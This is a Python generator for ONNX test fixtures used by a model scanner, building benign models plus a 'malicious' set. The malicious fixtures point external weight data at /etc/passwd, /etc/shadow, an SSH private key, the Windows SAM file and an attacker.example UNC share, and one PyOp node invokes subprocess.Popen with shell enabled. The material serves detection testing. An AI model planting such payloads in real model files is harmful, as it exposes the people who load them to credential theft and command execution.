#!/usr/bin/python3
"""Writes the ONNX fixtures of this directory with Debian's python3-onnx.

Run from anywhere:  /usr/bin/python3 internal/formats/onnxfmt/testdata/gen.py

Every model is built with onnx.helper and written as bytes. Nothing is ever
loaded back, and no external data is read: the models that point outside
their directory are only protobuf messages. The benign models pass
onnx.checker (which skips operators of domains it does not know); the
malicious-looking ones are not checked.
"""
import os

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

HERE = os.path.dirname(os.path.abspath(__file__))
PRODUCER = "modelscan-testdata"
OPSET = [helper.make_opsetid("", 13)]
F = TensorProto.FLOAT


def vi(name, shape, elem=F):
    return helper.make_tensor_value_info(name, elem, shape)


def write(name, model, check=True):
    if check:
        onnx.checker.check_model(model)
    path = os.path.join(HERE, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(model.SerializeToString())


def model(graph, opsets=OPSET, **kw):
    return helper.make_model(graph, producer_name=PRODUCER, producer_version="1", opset_imports=opsets, **kw)


def weights(name, shape, seed):
    rng = np.random.default_rng(seed)
    return numpy_helper.from_array(rng.standard_normal(shape).astype(np.float32), name)


# A small MLP: MatMul, Add, Relu, Softmax with initializers.
def tiny_mlp():
    nodes = [
        helper.make_node("MatMul", ["x", "w1"], ["h"], name="fc1"),
        helper.make_node("Add", ["h", "b1"], ["hb"], name="bias1"),
        helper.make_node("Relu", ["hb"], ["r"], name="relu"),
        helper.make_node("MatMul", ["r", "w2"], ["o"], name="fc2"),
        helper.make_node("Softmax", ["o"], ["y"], name="softmax", axis=-1),
    ]
    g = helper.make_graph(nodes, "tiny_mlp", [vi("x", [1, 4])], [vi("y", [1, 3])],
                          [weights("w1", [4, 8], 1), weights("b1", [8], 2), weights("w2", [8, 3], 3)])
    return model(g)


# If with two branches, Loop whose body holds another If, and Scan.
def control_flow(extra_in_loop=None, opsets=OPSET):
    then_g = helper.make_graph([helper.make_node("Relu", ["x"], ["t"], name="then_relu")], "then_branch", [],
                               [vi("t", [2])])
    else_g = helper.make_graph([helper.make_node("Neg", ["x"], ["e"], name="else_neg")], "else_branch", [],
                               [vi("e", [2])])
    if_node = helper.make_node("If", ["cond"], ["branch_out"], name="top_if", then_branch=then_g, else_branch=else_g)

    # Loop body: (iter, cond_in, acc) -> (cond_out, acc_out); it holds an If
    inner_then = helper.make_graph([helper.make_node("Add", ["acc", "one"], ["it"], name="inner_add")], "inner_then",
                                   [], [vi("it", [2])])
    inner_else = helper.make_graph([helper.make_node("Identity", ["acc"], ["ie"], name="inner_id")], "inner_else",
                                   [], [vi("ie", [2])])
    body_nodes = [
        helper.make_node("Identity", ["cond_in"], ["cond_out"], name="body_cond"),
        helper.make_node("If", ["cond_in"], ["acc_out"], name="body_if", then_branch=inner_then,
                         else_branch=inner_else),
    ]
    if extra_in_loop is not None:
        body_nodes.append(extra_in_loop)
    body = helper.make_graph(body_nodes, "loop_body",
                             [vi("iter", [], TensorProto.INT64), vi("cond_in", [], TensorProto.BOOL), vi("acc", [2])],
                             [vi("cond_out", [], TensorProto.BOOL), vi("acc_out", [2])])
    loop = helper.make_node("Loop", ["trip", "cond", "x"], ["loop_out"], name="top_loop", body=body)

    # Scan summing the rows of s
    scan_body = helper.make_graph([helper.make_node("Add", ["sum_in", "row"], ["sum_out"], name="scan_add"),
                                   helper.make_node("Identity", ["sum_out"], ["scan_out"], name="scan_id")],
                                  "scan_body", [vi("sum_in", [2]), vi("row", [2])],
                                  [vi("sum_out", [2]), vi("scan_out", [2])])
    scan = helper.make_node("Scan", ["x", "s"], ["scan_sum", "scan_rows"], name="top_scan", body=scan_body,
                            num_scan_inputs=1)
    g = helper.make_graph([if_node, loop, scan], "control_flow",
                          [vi("cond", [], TensorProto.BOOL), vi("trip", [], TensorProto.INT64), vi("x", [2]),
                           vi("s", [3, 2])],
                          [vi("branch_out", [2]), vi("loop_out", [2]), vi("scan_sum", [2]), vi("scan_rows", [3, 2])],
                          [numpy_helper.from_array(np.ones(2, dtype=np.float32), "one")])
    return model(g, opsets)


# A model-local function (domain custom.local) called from the main graph
# and from an If branch; its body uses standard ops only.
def local_function():
    fn = helper.make_function("custom.local", "ScaledRelu", ["a", "k"], ["out"],
                              [helper.make_node("Mul", ["a", "k"], ["m"]), helper.make_node("Relu", ["m"], ["out"])],
                              OPSET)
    then_g = helper.make_graph([helper.make_node("ScaledRelu", ["x", "k"], ["t"], domain="custom.local",
                                                 name="then_fn")], "then", [], [vi("t", [2])])
    else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["e"], name="else_id")], "else", [],
                               [vi("e", [2])])
    nodes = [
        helper.make_node("ScaledRelu", ["x", "k"], ["y"], domain="custom.local", name="call_fn"),
        helper.make_node("If", ["c"], ["z"], name="branch", then_branch=then_g, else_branch=else_g),
    ]
    g = helper.make_graph(nodes, "local_function", [vi("x", [2]), vi("c", [], TensorProto.BOOL)],
                          [vi("y", [2]), vi("z", [2])],
                          [numpy_helper.from_array(np.full(2, 0.5, dtype=np.float32), "k")])
    return model(g, OPSET + [helper.make_opsetid("custom.local", 1)], functions=[fn])


# Initializers stored in a file next to the model (written by onnx itself).
def external_data():
    m = tiny_mlp()
    m.graph.name = "external_data"
    onnx.checker.check_model(m)
    d = os.path.join(HERE, "external_data")
    os.makedirs(d, exist_ok=True)
    if os.path.exists(os.path.join(d, "model.weights")):
        os.remove(os.path.join(d, "model.weights"))  # onnx appends to an existing file
    onnx.save_model(m, os.path.join(d, "model.onnx"), save_as_external_data=True, all_tensors_to_one_file=True,
                    location="model.weights", size_threshold=0)


# onnxruntime contrib ops (com.microsoft): shipped with stock onnxruntime.
def com_microsoft():
    nodes = [
        helper.make_node("FusedMatMul", ["x", "w"], ["h"], domain="com.microsoft", name="fused", alpha=1.0,
                         transA=0, transB=0),
        helper.make_node("Gelu", ["h"], ["y"], domain="com.microsoft", name="gelu"),
    ]
    g = helper.make_graph(nodes, "ort_contrib", [vi("x", [1, 4])], [vi("y", [1, 4])], [weights("w", [4, 4], 4)])
    return model(g, OPSET + [helper.make_opsetid("com.microsoft", 1)])


# A node of a custom domain inside the Loop body: needs a custom-op library.
def custom_domain_nested():
    op = helper.make_node("FancyNorm", ["acc"], ["fancy"], domain="com.example.ops", name="fancy_norm", eps=1e-5)
    return control_flow(op, OPSET + [helper.make_opsetid("com.example.ops", 1)])


def one_initializer_graph(name, tensor, extra_nodes=()):
    nodes = [helper.make_node("MatMul", ["x", tensor.name], ["y"], name="mm")] + list(extra_nodes)
    return helper.make_graph(nodes, name, [vi("x", [1, 2])], [vi("y", [1, 2])], [tensor])


def external_tensor(name, location):
    # what onnx.external_data_helper.set_external_data writes, without
    # the raw_data it insists on
    t = TensorProto(name=name, data_type=F, dims=[2, 2], data_location=TensorProto.EXTERNAL)
    for k, v in (("location", location), ("offset", "0"), ("length", "16")):
        t.external_data.add(key=k, value=v)
    return t


# Malicious-looking: external data outside the model directory.
def ext_location(location):
    g = one_initializer_graph("ext", external_tensor("w", location))
    return model(g)


# Malicious-looking: an external location inside a Constant of an If branch.
def ext_in_subgraph():
    c = helper.make_node("Constant", [], ["cw"], name="hidden_const", value=external_tensor("cw", "../../../root/.ssh/id_rsa"))
    then_g = helper.make_graph([c, helper.make_node("Identity", ["cw"], ["t"], name="then_id")], "then", [],
                               [vi("t", [2, 2])])
    else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["e"], name="else_id")], "else", [],
                               [vi("e", [2, 2])])
    g = helper.make_graph([helper.make_node("If", ["c"], ["z"], name="branch", then_branch=then_g, else_branch=else_g)],
                          "ext_sub", [vi("c", [], TensorProto.BOOL), vi("x", [2, 2])], [vi("z", [2, 2])])
    return model(g)


# Malicious-looking: an onnxruntime-extensions Python op (@onnx_op) in
# ai.onnx.contrib, next to a native extensions op.
def contrib_pyop():
    nodes = [
        helper.make_node("StringLower", ["s"], ["low"], domain="ai.onnx.contrib", name="lower"),
        helper.make_node("PyReverseMatrix", ["x"], ["y"], domain="ai.onnx.contrib", name="py_reverse"),
    ]
    g = helper.make_graph(nodes, "contrib_pyop", [vi("s", [1], TensorProto.STRING), vi("x", [2, 2])],
                          [vi("low", [1], TensorProto.STRING), vi("y", [2, 2])])
    return model(g, OPSET + [helper.make_opsetid("ai.onnx.contrib", 1)])


# Malicious-looking: an onnxruntime language-interop PyOp naming a module
# and class that the runtime would import and instantiate.
def ort_pyop():
    node = helper.make_node("PyOp", ["x"], ["y"], domain="pyop_exec", name="py_cmd", module="subprocess",
                            class_name="Popen", compute="communicate", input_types=[F], output_types=[F],
                            args="id", shell="1")
    g = helper.make_graph([node], "ort_pyop", [vi("x", [2])], [vi("y", [2])])
    return model(g, OPSET + [helper.make_opsetid("pyop_exec", 1)])


# Malicious-looking: an EPContext node whose external context file lies
# outside the model directory.
def epcontext_path():
    node = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", name="ctx", embed_mode=0,
                            ep_cache_context="../../../etc/shadow", source="QNN")
    g = helper.make_graph([node], "epcontext", [vi("x", [2])], [vi("y", [2])])
    return model(g, OPSET + [helper.make_opsetid("com.microsoft", 1)])


def main():
    write("tiny_mlp.onnx", tiny_mlp())
    write("control_flow.onnx", control_flow())
    write("local_function.onnx", local_function())
    external_data()
    write("com_microsoft.onnx", com_microsoft())
    write("custom_domain_nested.onnx", custom_domain_nested())
    write("malicious/ext_absolute.onnx", ext_location("/etc/passwd"), check=False)
    write("malicious/ext_traversal.onnx", ext_location("weights/../../../../etc/passwd"), check=False)
    write("malicious/ext_windows_drive.onnx", ext_location("C:\\Windows\\System32\\config\\SAM"), check=False)
    write("malicious/ext_unc.onnx", ext_location("\\\\attacker.example\\share\\w.bin"), check=False)
    write("malicious/ext_in_subgraph.onnx", ext_in_subgraph(), check=False)
    write("malicious/contrib_pyop.onnx", contrib_pyop(), check=False)
    write("malicious/ort_pyop.onnx", ort_pyop(), check=False)
    write("malicious/epcontext_path.onnx", epcontext_path(), check=False)


if __name__ == "__main__":
    main()
